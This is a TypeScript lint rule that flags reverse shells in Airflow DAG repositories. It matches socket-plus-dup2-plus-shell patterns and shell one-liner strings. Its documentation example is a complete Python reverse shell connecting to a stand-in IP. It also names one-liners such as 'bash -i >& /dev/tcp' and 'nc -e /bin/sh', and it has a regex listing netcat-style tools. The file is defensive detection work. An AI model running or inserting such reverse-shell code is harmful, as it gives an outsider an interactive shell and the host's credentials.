import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { stringValue } from '../../src/engine/python';
import { argStrings, CALL_QUERY, factsOf, observe, SHELL_BINARY, SHELL_REVERSE } from './_util';

export default defineRule({
  meta: {
    id: 'DG608',
    name: 'reverse-shell',
    category: 'malicious',
    severity: 'critical',
    message: 'reverse shell: {how}',
    docs: {
      what:
        'Finds the shapes of a reverse shell, anywhere in the file: a socket, `os.dup2` of its descriptors and a shell (`pty.spawn`, or `/bin/sh`/`bash -i` started by `subprocess`/`os.exec*`) in the same file; a shell started with a socket\'s `fileno()` as its stdin/stdout; and shell one-liners in strings (`bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, `mkfifo … | nc`, `socat … exec:`), e.g. in a `BashOperator` command.',
      why:
        'A reverse shell hands an interactive shell on the Airflow host — scheduler, dag-processor or worker, with their credentials — to whoever listens at the other end. There is no legitimate reason for these shapes in a DAG repository.',
      example:
        '```python\nimport os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n```',
      useInstead: 'Remove it, and treat the repository as compromised: rotate the credentials the scheduler and workers can read.',
    },
  },
  query: `
${CALL_QUERY}
((string) @s (#match? @s "/dev/(tcp|udp)/|(^|[^a-zA-Z])(nc|ncat|netcat|socat|mkfifo|bash|sh)[^a-zA-Z]"))
`,
  onMatch(c, ctx) {
    if (c.call) {
      observe(c.call[0], ctx);
      return;
    }
    const s = c.s[0];
    if (s.parent?.type === 'concatenated_string') return; // judged as a whole below
    const value = stringValue(s) ?? s.text;
    if (SHELL_REVERSE.test(value)) ctx.report(s, this.meta.message.replace('{how}', 'shell one-liner that connects a shell to a remote host'));
  },
  onFile(ctx) {
    const facts = factsOf(ctx);
    if (!facts.socket) return;
    const dup2: SyntaxNode[] = [];
    const shells: SyntaxNode[] = [];
    for (const f of facts.calls) {
      if (f.kinds.has('dup2')) dup2.push(f.call);
      else if (f.fn === 'pty.spawn') shells.push(f.call);
      else if (f.kinds.has('spawn')) {
        const args = argStrings(f.call);
        if (SHELL_BINARY.test(args)) {
          if (/\bfileno\s*\(/.test(f.call.text)) {
            ctx.report(f.call, this.meta.message.replace('{how}', 'a shell whose input and output are a socket'));
            continue;
          }
          shells.push(f.call);
        }
      }
    }
    if (dup2.length && shells.length) {
      ctx.report(dup2[0], this.meta.message.replace('{how}', 'socket descriptors duplicated onto stdin/stdout and a shell spawned'));
    }
  },
});
